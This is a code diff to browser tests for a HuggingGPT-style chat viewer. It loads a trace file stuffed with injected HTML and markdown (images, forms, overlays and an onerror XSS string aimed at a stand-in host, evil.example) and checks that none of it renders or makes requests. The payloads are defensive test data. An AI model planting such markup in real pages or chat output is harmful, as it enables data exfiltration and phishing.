@@ -15,6 +15,7 @@ from tests.scripted_server import KEY
 from tests.ui.app_server import Server
 from tests.ui.page.conftest import Visitor
 from tests.ui.page.tab import Tab
+from tests.ui.test_markup import HOSTILE
 
 pytestmark = pytest.mark.browser
 
@@ -108,24 +109,69 @@ def test_a_resource_is_used_in_the_next_request(tab: Tab) -> None:
 
 
 def test_a_strangers_trace_reaches_out_to_nobody(tab: Tab, tmp_path: Path) -> None:
-    evil = "https://evil.example"
-    trap = f'<img src="{evil}/1.png"> ![x]({evil}/2.png) <form action="{evil}"><input name="key"><button>Send</button></form>'
-    events = [
-        {"event": "RequestStarted", "at": 0.0, "request": trap, "resources": [], "controller": trap},
-        {"event": "Planned", "at": 0.1, "plan": {"tasks": [], "notes": [trap]}, "seconds": 0.1, "because": ""},
-        {"event": "Notice", "at": 0.2, "message": trap},
-        {"event": "Answered", "at": 0.3, "answer": trap, "complete": True},
-        {"event": "RequestDone", "at": 0.4, "seconds": 0.4, "usage": []},
-    ]
-    trace = {"format": "hugginggpt-trace", "version": 1, "stopped": False, "events": events, "resources": {}}
-    (tmp_path / "evil.json").write_text(json.dumps(trace), encoding="utf-8")
     asked: list[str] = []
     tab.page.on("request", lambda request: asked.append(request.url))
+    traps = [f"{number}. {name}\n\n{trap}" for number, (name, trap) in enumerate(HOSTILE.items()) if "\0" not in trap]
+    trap = "\n\n".join(HOSTILE[name] for name in ("a tag", "a picture", "a form", "an overlay by style", "a mermaid block"))
+    task = {"task": "image-to-text", "id": 0, "dep": [], "args": {"image": f"{trap}.png"}}
+    model = {"id": trap, "backend": trap, "provider": trap}
+    events = [
+        {"event": "RequestStarted", "request": "\n\n".join(traps), "resources": [], "controller": trap},
+        {"event": "Planned", "plan": {"tasks": [task], "notes": [trap]}, "seconds": 0.1, "because": trap},
+        {"event": "Planned", "plan": {"tasks": [task], "notes": [trap]}, "seconds": 0.1, "because": trap},
+        {"event": "ModelSelected", "task_id": 0, "model": model, "reason": trap, "candidates": [model], "source": trap},
+        {"event": "TaskStarted", "task_id": 0, "model": model},
+        {"event": "AttemptFailed", "task_id": 0, "model": model, "error": trap},
+        {"event": "TaskStarted", "task_id": 0, "model": model},
+        {"event": "TaskDone", "task_id": 0, "model": model, "outputs": ["text-1"], "seconds": 0.1, "note": trap},
+        {"event": "Notice", "message": trap},
+        *({"event": "AnswerDelta", "text": f"{each}\n\n", "restarts": False} for each in traps),
+        {"event": "Answered", "answer": "\n\n".join(traps), "complete": True},
+        {"event": "RequestDone", "seconds": 0.4, "usage": []},
+    ]
+    result = {"kind": "text", "origin": {"source": "task", "label": trap, "task_id": 0}, "text": trap, "data": {"label": trap}}
+    trace = {"format": "hugginggpt-trace", "version": 1, "stopped": False, "resources": {"text-1": result}}
+    timed = [{**event, "at": number / 10} for number, event in enumerate(events)]
+    (tmp_path / "evil.json").write_text(json.dumps({**trace, "events": timed}), encoding="utf-8")
     opened(tab, tmp_path / "evil.json")
-    expect(tab.answers.last).to_contain_text(evil)
     tab.finish()
-    assert tab.page.locator("#chat form, #chat .message input, #chat img").count() == 0
-    assert [url for url in asked if url.startswith(evil)] == []
+    shown = tab.open_steps("image-to-text")
+    assert shown.count("<img src=https://evil.example/x.png onerror=alert(1)>") >= 7  # wherever it was said, it is text
+    assert "Sign in again" in shown
+    drawn = tab.page.locator("#chat .message-content")
+    assert drawn.locator("form, input, img, iframe, style, script, math, .mermaid, [style*=fixed]").count() == 0
+    assert drawn.locator("svg").count() == drawn.locator(".copy_code_button svg").count()
+    links = tab.page.locator("#chat .message a").evaluate_all("all => all.map(a => [a.protocol, a.host, a.target, a.rel])")
+    assert {tuple(link) for link in links} == {("https:", "evil.example", "_blank", "noopener noreferrer")}
+    assert [url for url in asked if "evil.example" in url] == []
     policy = tab.page.request.get(tab.page.url).headers["content-security-policy"]
     assert "img-src 'self'" in policy
     assert "form-action 'self'" in policy
+
+
+def test_what_is_edited_and_copied_is_what_was_written(tab: Tab, tmp_path: Path) -> None:
+    typed = "Compare <b> with &lt;b&gt;:\n    if a < b: **x** & y"
+    answer = "## Found\n\n1. **first**\n   - see [this](https://a.example)\n\n```\nif a<b:\n    c\n```\n\n"
+    answer += "| a | b |\n| --- | --- |\n| 1 | 2 |"
+    events = [
+        {"event": "RequestStarted", "at": 0.0, "request": typed, "resources": [], "controller": "me"},
+        {"event": "Answered", "at": 0.1, "answer": answer, "complete": True},
+        {"event": "RequestDone", "at": 0.2, "seconds": 0.2, "usage": []},
+    ]
+    trace = {"format": "hugginggpt-trace", "version": 1, "stopped": False, "events": events, "resources": {}}
+    (tmp_path / "run.json").write_text(json.dumps(trace), encoding="utf-8")
+    opened(tab, tmp_path / "run.json")
+    tab.finish()
+    tab.page.context.grant_permissions(["clipboard-read", "clipboard-write"])
+    tab.page.get_by_label("Copy conversation").click()
+    tab.page.wait_for_function("navigator.clipboard.readText().then(text => text.includes('first'))")
+    copied = tab.page.evaluate("navigator.clipboard.readText()")
+    assert f"user: {typed}" in copied
+    assert answer in copied
+    tab.page.locator("#chat").get_by_label("Edit").first.click()
+    edited = tab.page.locator("#chat textarea").first
+    assert edited.input_value().replace("\u2060", "") == typed
+    edited.press("End")
+    tab.page.locator("#chat").get_by_label("Submit").click()
+    tab.finish()
+    assert tab.requests.first.locator(".message-content").inner_text().replace("\u2060", "") == typed
